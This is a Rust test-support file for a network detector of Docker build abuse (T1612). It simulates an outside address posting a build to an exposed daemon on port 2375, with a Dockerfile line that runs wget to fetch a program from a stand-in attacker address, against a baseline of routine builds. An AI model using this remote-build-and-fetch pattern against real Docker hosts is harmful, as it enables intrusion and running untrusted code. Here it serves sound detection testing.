//! Who is who, what they send, and what must be said of it.

use std::collections::BTreeSet;
use std::net::SocketAddrV4;
use std::time::Duration;

use serde_json::Value;
use tw_model::Timestamp;
use tw_testkit::{Conversation, Packet, conversation, dns_exchange, http_request, tar, to_pcap};

use crate::support::{Lab, Run};

pub(crate) const HOST: &str = "10.10.1.5";
pub(crate) const DAEMON: &str = "10.10.1.5:2375";
/// Builds every day in the baseline.
pub(crate) const BUILDER: &str = "10.10.1.20";
pub(crate) const STRANGER: &str = "198.51.100.23";
pub(crate) const NEW: &str = "203.0.113.9";
/// The docker host downloads from there in the baseline, and knows it as `cdn.example.net`.
pub(crate) const KNOWN: &str = "203.0.113.80";
/// The docker host uses it in the baseline.
pub(crate) const PROXY: &str = "10.10.1.9:3128";
pub(crate) const RESOLVER: &str = "10.10.1.53:53";

pub(crate) const DOCKERFILE: &str = "FROM alpine:3.18\nRUN wget http://203.0.113.9/x\n";
/// Names no destination.
pub(crate) const SILENT: &str = "FROM alpine:3.18\nCOPY . /src\nRUN make -C /src\n";
const IMAGE: &str = "sha256:5f0e2d36c7a1b3f7b6d1c9aa1b1a3dcb9a0e2d36c7a1b3f7b6d1c9aa1b1a3dcb";

pub(crate) fn address(text: &str) -> SocketAddrV4 {
    text.parse().unwrap_or_else(|_| panic!("{text} is no address and port"))
}

/// So many seconds after the attack begins.
pub(crate) fn at(seconds: f64) -> Timestamp {
    let begin = Timestamp::from_secs_nanos(1_795_560_000, 0);
    if seconds < 0.0 {
        begin.minus(Duration::from_secs_f64(-seconds))
    } else {
        begin.plus(Duration::from_secs_f64(seconds))
    }
}

pub(crate) fn seconds(n: u64) -> Duration {
    Duration::from_secs(n)
}

/// `POST` with a context that holds this Dockerfile.
pub(crate) fn build(target: &str, dockerfile: &str) -> Vec<u8> {
    let context = tar(&[("Dockerfile", dockerfile.as_bytes()), ("Makefile", b"all:\n\ttrue\n")]);
    http_request("POST", target, &[("Content-Type", "application/x-tar")], &context)
}

/// The answer to a build with `q=1`: nothing but the image's id.
pub(crate) fn built() -> Vec<u8> {
    tw_testkit::daemon_answer(&[&format!("{{\"stream\":\"{IMAGE}\\n\"}}")])
}

/// The answer to a build without `q=1`.
pub(crate) fn told(steps: &[&str]) -> Vec<u8> {
    let mut lines: Vec<String> = steps
        .iter()
        .enumerate()
        .map(|(n, s)| format!("{{\"stream\":\"Step {}/{} : {s}\\n\"}}", n + 1, steps.len()))
        .collect();
    lines.push(format!("{{\"aux\":{{\"ID\":\"{IMAGE}\"}}}}"));
    lines.push("{\"stream\":\"Successfully built 5f0e2d36c7a1\\n\"}".to_owned());
    lines.push("{\"stream\":\"Successfully tagged evil:1\\n\"}".to_owned());
    tw_testkit::daemon_answer(&lines.iter().map(String::as_str).collect::<Vec<_>>())
}

/// An answer in JSON as the daemon gives it.
pub(crate) fn json_answer(status: &str, body: &str) -> Vec<u8> {
    let len = body.len();
    format!(
        "HTTP/1.1 {status}\r\nApi-Version: 1.41\r\nContent-Type: application/json\r\n\
         Server: Docker/20.10.24 (linux)\r\nContent-Length: {len}\r\n\r\n{body}"
    )
    .into_bytes()
}

/// A stranger calls `daemon` at the beginning; the answer comes after two seconds.
pub(crate) fn call(daemon: &str, request: &[u8], answer: &[u8]) -> Vec<Packet> {
    caller(STRANGER, daemon, at(0.0), request, answer)
}

pub(crate) fn caller(
    client: &str,
    daemon: &str,
    when: Timestamp,
    request: &[u8],
    answer: &[u8],
) -> Vec<Packet> {
    Conversation::open(address(&format!("{client}:40000")), address(daemon), when)
        .client_sends(request)
        .wait(seconds(2))
        .server_sends(answer)
        .close()
}

/// `client` downloads a program from `server` in clear.
pub(crate) fn download(client: &str, server: &str, when: Timestamp) -> Vec<Packet> {
    let host = server.trim_end_matches(":80").to_owned();
    let request = http_request("GET", "/x", &[("Host", &host)], b"");
    let answer = b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\n\x7fELF\x02\x01\x01\x00";
    let port = 41_000 + when.as_nanos() / 1_000_000 % 20_000;
    conversation(address(&format!("{client}:{port}")), address(server), when, &request, answer)
}

/// The download from the new place, one second after the call.
pub(crate) fn fetched() -> Vec<Packet> {
    download(HOST, "203.0.113.9:80", at(1.0))
}

/// Both, in order of time.
pub(crate) fn attack(request: &[u8]) -> Vec<Packet> {
    merged([call(DAEMON, request, &built()), fetched()])
}

pub(crate) fn merged(parts: impl IntoIterator<Item = Vec<Packet>>) -> Vec<Packet> {
    let mut packets: Vec<Packet> = parts.into_iter().flatten().collect();
    packets.sort_by_key(|packet| packet.at);
    packets
}

/// Builds by the known builder and what they download, one a day; then nothing for a day.
fn baseline() -> Vec<Packet> {
    let mut parts = Vec::new();
    for day in 2..7_u32 {
        let when = at(-86_400.0 * f64::from(day));
        let known = format!("{KNOWN}:443");
        parts.push(caller(BUILDER, DAEMON, when, &build("/v1.41/build?t=app", SILENT), &built()));
        parts.push(name(HOST, "cdn.example.net", [203, 0, 113, 80], when.plus(seconds(1))));
        parts.push(tls(HOST, &known, "cdn.example.net", when.plus(seconds(1))));
        parts.push(download(HOST, &format!("{KNOWN}:80"), when.plus(seconds(1))));
        parts.push(through_proxy(HOST, PROXY, "cdn.example.net", when.plus(seconds(1))));
    }
    merged(parts)
}

/// The host asks a proxy in absolute form.
pub(crate) fn through_proxy(client: &str, proxy: &str, name: &str, when: Timestamp) -> Vec<Packet> {
    let request = format!("GET http://{name}/x HTTP/1.1\r\nHost: {name}\r\n\r\n");
    let answer = b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\n\x7fELF";
    let client = address(&format!("{client}:41100"));
    conversation(client, address(proxy), when, request.as_bytes(), answer)
}

/// The host asks its resolver for a name.
pub(crate) fn name(client: &str, name: &str, answer: [u8; 4], when: Timestamp) -> Vec<Packet> {
    let port = 30_000 + when.as_nanos() / 1_000_000 % 20_000;
    dns_exchange(address(&format!("{client}:{port}")), address(RESOLVER), when, name, answer)
}

/// RFC 8446 §4.1.2 and RFC 6066 §3: a conversation that begins with a ClientHello for `name`, and
/// is opaque from there.
pub(crate) fn tls(client: &str, server: &str, name: &str, when: Timestamp) -> Vec<Packet> {
    let port = 42_000 + when.as_nanos() / 1_000_000 % 20_000;
    let mut opaque = vec![23, 3, 3, 4, 0];
    opaque.extend_from_slice(&[0x5a; 1024]);
    Conversation::open(address(&format!("{client}:{port}")), address(server), when)
        .client_sends(&client_hello(name))
        .server_sends(&opaque)
        .client_sends(&opaque)
        .server_sends(&opaque.repeat(20))
        .close()
}

pub(crate) fn client_hello(name: &str) -> Vec<u8> {
    let with_len = |body: &[u8]| {
        let mut out = u16::try_from(body.len()).expect("short").to_be_bytes().to_vec();
        out.extend_from_slice(body);
        out
    };
    let mut entry = vec![0];
    entry.extend_from_slice(&with_len(name.as_bytes()));
    let mut extensions = vec![0, 0];
    extensions.extend_from_slice(&with_len(&with_len(&entry)));
    extensions.extend_from_slice(&[0, 43, 0, 3, 2, 3, 4]);
    let mut body = vec![3, 3];
    body.extend_from_slice(&[7; 32]);
    body.extend_from_slice(&[0, 0, 2, 0x13, 0x01, 1, 0]);
    body.extend_from_slice(&with_len(&extensions));
    let mut handshake = vec![1, 0];
    handshake.extend_from_slice(&with_len(&body));
    let mut record = vec![22, 3, 1];
    record.extend_from_slice(&with_len(&handshake));
    record
}

/// A case: captures, and what is to be said of them.
#[derive(Debug)]
pub(crate) struct Case {
    name: &'static str,
    captures: Vec<Vec<Packet>>,
    config: Option<&'static str>,
    want: Want,
}

#[derive(Clone, Copy, Debug)]
pub(crate) enum Want {
    /// One T1612 finding of medium or above: this host, this destination.
    Found { host: &'static str, destination: &'static str, builds: usize, is_named: bool },
    /// No T1612 finding of medium or above.
    Quiet,
}

const FOUND: Want = Want::Found { host: HOST, destination: NEW, builds: 1, is_named: true };

impl Case {
    pub(crate) fn attack(name: &'static str, packets: Vec<Packet>) -> Self {
        Self { name, captures: vec![packets], config: None, want: FOUND }
    }

    pub(crate) fn quiet(name: &'static str, packets: Vec<Packet>) -> Self {
        Self { name, captures: vec![packets], config: None, want: Want::Quiet }
    }

    /// The build does not say where it downloads from.
    pub(crate) fn unnamed(self) -> Self {
        let Want::Found { host, destination, builds, .. } = self.want else { return self };
        Self { want: Want::Found { host, destination, builds, is_named: false }, ..self }
    }

    pub(crate) fn to(self, destination: &'static str) -> Self {
        let Want::Found { host, builds, is_named, .. } = self.want else { return self };
        Self { want: Want::Found { host, destination, builds, is_named }, ..self }
    }

    pub(crate) fn on(self, host: &'static str) -> Self {
        let Want::Found { destination, builds, is_named, .. } = self.want else { return self };
        Self { want: Want::Found { host, destination, builds, is_named }, ..self }
    }

    pub(crate) fn of_builds(self, builds: usize) -> Self {
        let Want::Found { host, destination, is_named, .. } = self.want else { return self };
        Self { want: Want::Found { host, destination, builds, is_named }, ..self }
    }

    pub(crate) fn configured(self, config: &'static str) -> Self {
        Self { config: Some(config), ..self }
    }

    pub(crate) fn and_file(mut self, packets: Vec<Packet>) -> Self {
        self.captures.push(packets);
        self
    }

    /// What is wrong with what is said of it.
    pub(crate) fn complaints(&self) -> Vec<String> {
        let run = self.run();
        let found = match self.want {
            Want::Quiet => told_of(&run).iter().map(|f| format!("not quiet: {f}")).collect(),
            Want::Found { host, destination, builds, is_named } => {
                self.missing(&run, (host, destination), builds, is_named)
            }
        };
        found.into_iter().map(|complaint| format!("{}: {complaint}", self.name)).collect()
    }

    pub(crate) fn caveats_of_builds(&self) -> Vec<String> {
        let builds = self.run().events("build");
        let all = builds.iter().flat_map(|build| build["caveats"].as_array().into_iter().flatten());
        all.filter_map(|caveat| Some(caveat.as_str()?.to_owned())).collect()
    }

    fn run(&self) -> Run {
        let lab = Lab::new();
        let mut options = Vec::new();
        if let Some(config) = self.config {
            options.push("--config".into());
            options.push(lab.file("tidewaiter.toml", config.as_bytes()).into_os_string());
        }
        let learned = lab.file("baseline.pcap", &to_pcap(&baseline())).into_os_string();
        lab.run("learn", options.iter().chain([&learned])).succeeded();
        options.extend(["--format".into(), "json".into()]);
        for (n, packets) in self.captures.iter().enumerate() {
            options.push(lab.file(&format!("{n}.pcap"), &to_pcap(packets)).into_os_string());
        }
        if let Some(keep) = std::env::var_os("TIDEWAITER_KEEP") {
            let folder = std::path::Path::new(&keep).join(self.name.replace(['/', ' '], "-"));
            std::fs::create_dir_all(&folder).unwrap();
            std::fs::write(folder.join("baseline.pcap"), to_pcap(&baseline())).unwrap();
            for (n, packets) in self.captures.iter().enumerate() {
                std::fs::write(folder.join(format!("{n}.pcap")), to_pcap(packets)).unwrap();
            }
        }
        lab.run("replay", options).succeeded()
    }

    fn missing(
        &self,
        run: &Run,
        (host, destination): (&str, &str),
        builds: usize,
        is_named: bool,
    ) -> Vec<String> {
        let found = told_of(run);
        let is_right = |f: &&Value| {
            f["docker_host"] == host
                && (f["destination"]["ip"] == destination
                    || f["destination"]["names"][0]["name"] == destination)
        };
        let Some(finding) = found.iter().find(is_right) else {
            let all: Vec<String> = run.events("finding").iter().map(brief).collect();
            return vec![format!("missed; findings {all:?}")];
        };
        let mut complaints = Vec::new();
        if found.len() > 1 {
            let all: Vec<String> = found.iter().map(brief).collect();
            complaints.push(format!("{} findings: {all:?}", found.len()));
        }
        if (finding["verdict"] == "observed") != is_named {
            complaints.push(format!("verdict {}", finding["verdict"]));
        }
        let ids: BTreeSet<&str> =
            finding["builds"].as_array().into_iter().flatten().filter_map(Value::as_str).collect();
        if ids.len() != builds {
            complaints.push(format!("builds {ids:?}"));
        }
        for build in run.events("build") {
            if !ids.contains(build["id"].as_str().unwrap_or_default()) {
                continue;
            }
            if build["tags"][0] != "evil:1" || build["base_images"][0] != "alpine:3.18" {
                let (tags, bases) = (&build["tags"], &build["base_images"]);
                complaints.push(format!("build of {tags} from {bases}"));
            }
        }
        complaints
    }
}

fn brief(finding: &Value) -> String {
    format!(
        "{} {} {} {}",
        finding["rule"], finding["severity"], finding["verdict"], finding["destination"]["ip"]
    )
}

/// Findings of T1612 with a destination, medium or above.
fn told_of(run: &Run) -> Vec<Value> {
    let is_grave =
        |f: &Value| matches!(f["severity"].as_str(), Some("medium" | "high" | "critical"));
    let is_pair = |f: &Value| {
        let techniques = f["techniques"].as_array();
        techniques.into_iter().flatten().any(|t| t == "T1612") && !f["destination"].is_null()
    };
    run.events("finding").into_iter().filter(|f| is_grave(f) && is_pair(f)).collect()
}
